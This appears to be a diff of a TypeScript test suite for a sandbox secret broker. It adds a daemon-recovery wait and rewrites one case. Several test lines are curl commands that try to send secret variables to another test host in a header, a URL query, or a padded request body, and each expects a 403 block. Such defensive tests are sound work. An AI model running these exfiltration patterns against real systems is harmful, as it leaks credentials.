@@ -12,7 +12,7 @@ import { join } from "node:path";
 import { request } from "node:http";
 import Database from "better-sqlite3";
 import { api, cleanup, cli, createUser, startDaemon, type Daemon } from "../testing/harness.js";
-import { exec, IMAGES_DIR } from "../testing/sandbox-api.js";
+import { exec, IMAGES_DIR, RECOVERED, waitForOutput } from "../testing/sandbox-api.js";
 import { ADDR, POOL, PRIVATE_RANGE, buildTestInternet, type TestInternet } from "../testing/internet.js";
 import { scanText, scanTree } from "../testing/scan.js";
 import { runtimeDirFor } from "../util/paths.js";
@@ -140,7 +140,7 @@ export function brokerSuite(engine: "ns" | "vm", opts: { image?: string; prepare
       // Plain HTTP to another allowed host: header, URL, body.
       [`curl -s -o /dev/null -w '%{http_code}' http://other.bhatti.test/ -H "X-K: $API"`, "403", { secret: "API", where: "header", dest: "other.bhatti.test" }],
       [`curl -s -o /dev/null -w '%{http_code}' "http://other.bhatti.test/?k=$BODY"`, "403", { secret: "BODY", where: "url" }],
-      [`curl -s -o /dev/null -w '%{http_code}' http://other.bhatti.test/ --data-binary "$(head -c 200000 /dev/zero | tr '\\0' a)$OTHER"`, "403", { secret: "OTHER", where: "body" }],
+      [`head -c 200000 /dev/zero | tr '\\0' a > /tmp/body; printf %s "$OTHER" >> /tmp/body; curl -s -o /dev/null -w '%{http_code}' http://other.bhatti.test/echo --data-binary @/tmp/body`, "403", { secret: "OTHER", where: "body" }],
       // Plain HTTP to the bound host, even without a placeholder.
       [`curl -s -o /dev/null -w '%{http_code}' http://api.bhatti.test/echo`, "403", { secret: "API", where: "plaintext" }],
     ];
@@ -178,6 +178,7 @@ except Exception as e: print("ERR", e)'`);
   test("a daemon restart keeps brokering working for the live sandbox", async () => {
     await d.stop();
     d = await start(d.dataDir);
+    await waitForOutput(d, RECOVERED);
     const i = id();
     const r = await sh(`curl -sS "https://api.bhatti.test/echo?id=${i}" -H "Authorization: Bearer $API"`);
     assert.equal(r.code, 0, r.err);
